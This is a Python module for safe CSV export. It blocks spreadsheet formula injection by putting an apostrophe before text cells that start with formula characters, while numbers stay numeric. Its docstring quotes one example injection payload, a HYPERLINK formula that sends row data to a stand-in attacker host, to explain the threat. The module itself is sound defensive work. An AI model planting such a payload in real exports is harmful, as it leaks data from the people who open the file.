"""The one way to write a CSV (or anything a spreadsheet opens) that leaves the platform.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (tab and carriage
return start one too), so a site called ``=HYPERLINK("https://evil.example?x="&A2,"Map")`` in an open-data
file becomes a link that sends the row away, or worse (OWASP, "CSV Injection"). Every text cell that starts
with one of those characters is written with a ``'`` in front — the spreadsheet shows it as text and the
reader sees the value with a leading apostrophe — and the ``csv`` module quotes and doubles ``"`` as usual.

Only *text* is neutralised. A value that is a number (``int``, ``float``, ``Decimal``) is written as a
number, so ``-12.5`` stays a negative number a spreadsheet can sum; a string ``"-12.5"`` is text and gets
the prefix. Exports therefore pass numbers as numbers (``Decimal("12.50")`` for a formatted amount), never
pre-formatted strings.

Usage::

    csv_text(COLUMNS, rows)                       # the whole file, as a string
    StreamingResponse(iter_csv(COLUMNS, rows))    # chunks of about 64 KiB, for a large export
    async_iter_csv(COLUMNS, async_rows)           # the same from an async iterator (a streamed query)
"""

import csv
import io
import math
from collections.abc import AsyncIterable, AsyncIterator, Iterable, Iterator
from datetime import date, datetime
from decimal import Decimal
from typing import Final
from uuid import UUID

#: Characters that make a spreadsheet read a cell as a formula (OWASP's list).
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")

#: What a cell may hold. ``None`` is an empty cell; ``bool`` is written as text (``True``/``False``).
Cell = str | int | float | Decimal | date | datetime | UUID | bool | None

CHUNK_CHARS: Final = 65536


def neutralise(value: Cell) -> str | int | float | Decimal:
    """The cell as it should be written: numbers as numbers, text with a ``'`` before a formula start."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return str(value)
    if isinstance(value, int | Decimal):
        return value
    if isinstance(value, float):
        # nan and inf are not numbers a spreadsheet reads back; write them as text (they cannot start a formula
        # except "-inf", which the prefix covers).
        return value if math.isfinite(value) else neutralise(str(value))
    text = value.isoformat() if isinstance(value, date | datetime) else str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


class SafeWriter:
    """``csv.writer`` with every cell neutralised; CRLF line ends (RFC 4180) unless told otherwise."""

    def __init__(self, out: io.StringIO, *, lineterminator: str = "\r\n") -> None:
        self._writer = csv.writer(out, lineterminator=lineterminator)

    def writerow(self, row: Iterable[Cell]) -> None:
        self._writer.writerow([neutralise(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Cell]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_text(header: Iterable[str], rows: Iterable[Iterable[Cell]], *, lineterminator: str = "\r\n") -> str:
    """The whole file: the header row, then each row."""
    out = io.StringIO()
    writer = SafeWriter(out, lineterminator=lineterminator)
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def _take(out: io.StringIO) -> str:
    chunk = out.getvalue()
    out.seek(0)
    out.truncate()
    return chunk


def iter_csv(header: Iterable[str], rows: Iterable[Iterable[Cell]], *, lineterminator: str = "\r\n") -> Iterator[str]:
    """The file in chunks of about ``CHUNK_CHARS`` characters, for a ``StreamingResponse``."""
    out = io.StringIO()
    writer = SafeWriter(out, lineterminator=lineterminator)
    writer.writerow(header)
    for row in rows:
        writer.writerow(row)
        if out.tell() > CHUNK_CHARS:
            yield _take(out)
    yield _take(out)


async def async_iter_csv(
    header: Iterable[str], rows: AsyncIterable[Iterable[Cell]], *, lineterminator: str = "\r\n"
) -> AsyncIterator[str]:
    """:func:`iter_csv` over an async iterator of rows (e.g. a streamed query)."""
    out = io.StringIO()
    writer = SafeWriter(out, lineterminator=lineterminator)
    writer.writerow(header)
    async for row in rows:
        writer.writerow(row)
        if out.tell() > CHUNK_CHARS:
            yield _take(out)
    yield _take(out)
